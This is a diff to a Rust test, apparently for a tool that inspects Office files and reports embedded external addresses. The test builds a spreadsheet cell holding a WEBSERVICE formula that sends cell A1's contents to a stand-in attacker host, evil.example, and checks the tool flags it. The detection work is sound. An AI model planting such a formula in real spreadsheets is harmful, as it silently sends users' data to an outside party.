@@ -85,7 +85,7 @@ fn addresses_are_told() {
     assert!(says(&read(&zip(&[("word/_rels/settings.xml.rels", links.as_bytes())]), ""), address));
     let formula = "WEBSERVICE(\"https://evil.example/?d=\"&A1)";
     let sheet = format!("<worksheet><c><f>{}</f><v>3</v></c></worksheet>", formula.replace('&', "&amp;"));
-    assert!(says(&read(&zip(&[("xl/worksheets/sheet1.xml", sheet.as_bytes())]), ""), formula));
+    assert!(says(&read(&zip(&[("xl/worksheets/sheet1.xml", sheet.as_bytes())]), ""), &format!("={formula}")));
 }
 
 // control-off: INJ-02: The file as it comes, or its base64, says nothing.
